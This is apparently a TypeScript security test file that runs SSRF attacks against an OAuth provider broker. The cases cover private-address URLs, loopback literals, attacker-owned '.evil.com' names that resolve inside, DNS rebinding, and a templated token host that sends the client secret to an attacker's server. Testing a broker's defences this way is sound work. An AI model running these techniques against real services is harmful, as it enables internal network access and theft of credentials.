import { privateUrls } from '../protocol/private-hosts.ts';
import { type Attack, stopped, succeeded, type Verdict } from './attack.ts';
import type { Stage } from './stage.ts';
import { loopback, nowhere, type Records } from './strict.ts';

/** Whoever may write a definition, or own a name, would have the broker call addresses of the inside. */

/** Has the broker fetch from this host, at the port of the canary. */
async function fetchFrom({ strict }: Stage, host: string): Promise<Verdict> {
  const before = strict.reached();
  const issuer = `https://${host}:${strict.port}`;
  const refusal = await strict.broker.root.call('POST', '/v1/providers/discover', { body: { issuer } }).then(
    () => 'none',
    (error: unknown) => (error instanceof Error ? error.message : ''),
  );
  const hits = strict.reached() - before;
  return hits > 0 ? succeeded(`${hits} connections to the inside`) : stopped(`refused: ${refusal}`);
}

const byName = (name: string, falls: Attack['falls'], records: Records, then?: Records): Attack => ({
  name: `SSRF at fetch time: ${name}`,
  falls,
  async run(stage) {
    const host = `${stage.fresh('name')}.evil.com`;
    stage.strict.name(host, records, then);
    return fetchFrom(stage, host);
  },
});

export const ssrf: Attack[] = [
  {
    name: `SSRF at definition time: ${privateUrls.length} spellings of addresses of the inside`,
    falls: [['public hosts only']],
    async run({ strict, fresh }) {
      const taken: string[] = [];
      for (const url of privateUrls) {
        const id = fresh('inside');
        const methods = { app: { grant: 'client_credentials', token_endpoint: url } };
        await strict.broker.root.call('PUT', `/v1/providers/${id}`, { body: { id, name: 'Inside', methods } }).then(
          () => taken.push(url),
          () => {},
        );
      }
      return taken.length > 0 ? succeeded(`${taken.length} were taken`) : stopped('none was taken');
    },
  },
  {
    name: 'SSRF at fetch time: an address itself',
    falls: [['public hosts only', 'address of the host']],
    run: (stage) => fetchFrom(stage, '127.0.0.1'),
  },
  byName('a name for an address of the inside', [['addresses of the name']], loopback),
  byName('a name for a public address and one of the inside', [['addresses of the name']], { ...loopback, ...nowhere }),
  byName('a name that is public when it is checked and inside when it is called', [['checked is called']], nowhere, loopback),
  {
    name: 'template host: whoever makes a connection names the host that is sent the client secret',
    falls: [["host is the integration's"]],
    async run(stage) {
      const id = stage.fresh('self-hosted');
      await stage.define(
        JSON.stringify({
          id,
          name: 'Self-hosted',
          inputs: { host: { label: 'Host', host: true, asked_of: 'end_user' } },
          methods: { app: { grant: 'client_credentials', token_endpoint: 'http://{host}/token' } },
        }),
      );
      const registration = { id, provider: id, client_id: 'app', client_secret: 'the-secret-of-the-app' };
      await stage.root.call('POST', '/v1/integrations', { body: registration }).catch(() =>
        // The host has to be said here.
        stage.root.call('POST', '/v1/integrations', { body: { ...registration, inputs: { host: 'login.acme.com' } } }),
      );
      stage.mislead(() => '');
      const connect = await stage.clientWith(['connect']);
      const inputs = { host: new URL(stage.evil.url).host };
      const body = { integration: id, end_user: { id: stage.fresh('attacker') }, grant: 'client_credentials', inputs };
      await connect.call('POST', '/v1/connections', { body }).catch(() => {});
      return stage.captured.length > 0 ? succeeded('the client secret went to the host of the attacker') : stopped('nothing went there');
    },
  },
];
